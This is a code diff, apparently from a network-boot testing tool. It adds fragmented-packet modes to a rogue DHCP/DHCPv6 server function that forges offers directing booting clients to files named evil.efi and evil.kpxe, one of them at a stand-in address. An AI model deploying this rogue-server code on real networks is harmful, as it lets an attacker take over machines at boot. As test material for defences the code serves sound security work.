@@ -190,6 +190,16 @@ def rogue(interface: str, mode: str, *args: str) -> None:
         if frame is None or frame.src_mac == mac or frame.protocol != frames.IPPROTO_UDP:
             continue
         if frame.family == 6:
+            if mode == "fragmented6" and frame.dport == dhcp6.SERVER_PORT:
+                msg = dhcp6.parse(frame.payload)
+                adv = packets.advertise(xid=msg.xid, client_duid=bytes.fromhex(
+                    msg.client_duid or ""), url="https://[2001:db8::66]/evil.efi",
+                    server_mac=mac)
+                whole = frames.udp6_frame(
+                    src_mac=mac, dst_mac=frame.src_mac, src_ip=frames.link_local_from_mac(mac),
+                    dst_ip=frame.src_ip, sport=547, dport=546, payload=adv)
+                for part in reversed(packets.fragment6(whole, 48, ident=msg.xid)):
+                    sock.send(part)
             if mode == "duid6" and frame.dport == dhcp6.SERVER_PORT:
                 msg = dhcp6.parse(frame.payload)
                 adv = packets.advertise(xid=msg.xid, client_duid=bytes.fromhex(
@@ -235,6 +245,10 @@ def rogue(interface: str, mode: str, *args: str) -> None:
             if req.secs >= 5 and not req.chaddr[0] & 0x02 and req.client_arch == 9:
                 sock.send(_offer(req, server_ip=ip, file=b"evil.efi", src_mac=mac, src_ip=ip,
                                  sport=6767))
+        elif mode == "fragmented":  # the offer in 64-byte IPv4 fragments, last first
+            whole = _offer(req, server_ip=ip, file=b"evil.kpxe", src_mac=mac, src_ip=ip)
+            for part in reversed(packets.fragment(whole, 64, ident=req.xid & 0xFFFF)):
+                sock.send(part)
         elif mode == "giaddr":
             sock.send(_offer(req, server_ip=args[0], file=b"evil.kpxe", src_mac=mac, src_ip=ip,
                              giaddr="192.0.2.254"))
